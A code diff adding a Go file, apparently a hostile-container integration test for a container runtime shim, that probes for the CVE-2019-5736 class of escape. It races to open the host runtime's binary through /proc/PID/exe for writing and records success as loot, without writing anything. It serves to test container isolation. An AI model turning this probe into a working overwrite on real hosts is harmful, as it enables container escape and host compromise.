@@ -1,0 +1,49 @@
+package main
+
+import (
+	"errors"
+	"fmt"
+	"os"
+
+	"golang.org/x/sys/unix"
+
+	"github.com/rkt/containerd-shim-rkt-v1/integration/hostile/loot"
+)
+
+// overwrite is the class of CVE-2019-5736: a program of the container's that is a script
+// of /proc/self/exe makes the runtime execute itself in there. Whoever holds
+// /proc/PID/exe open meanwhile can write to it once nobody executes it any more: to
+// the host's binary. This opens it for writing, and writes nothing.
+func overwrite() {
+	h := &hunter{self: os.Getpid()}
+	h.know()
+	ready()
+	for {
+		for _, pid := range processes() {
+			proc := fmt.Sprintf("/proc/%d/", pid)
+			if pid == h.self || !h.foreign(proc) {
+				continue
+			}
+			if fd, err := unix.Open(proc+"exe", unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
+				link, _ := os.Readlink(proc + "exe")
+				openForWriting(fd, link)
+				unix.Close(fd)
+			}
+		}
+	}
+}
+
+// openForWriting tries for as long as the program is executed.
+func openForWriting(fd int, link string) {
+	for range 100_000 {
+		w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
+		if err == nil {
+			unix.Close(w)
+			got(loot.Write, "the runtime's program %s", link)
+			return
+		}
+		if !errors.Is(err, unix.ETXTBSY) {
+			return
+		}
+	}
+}
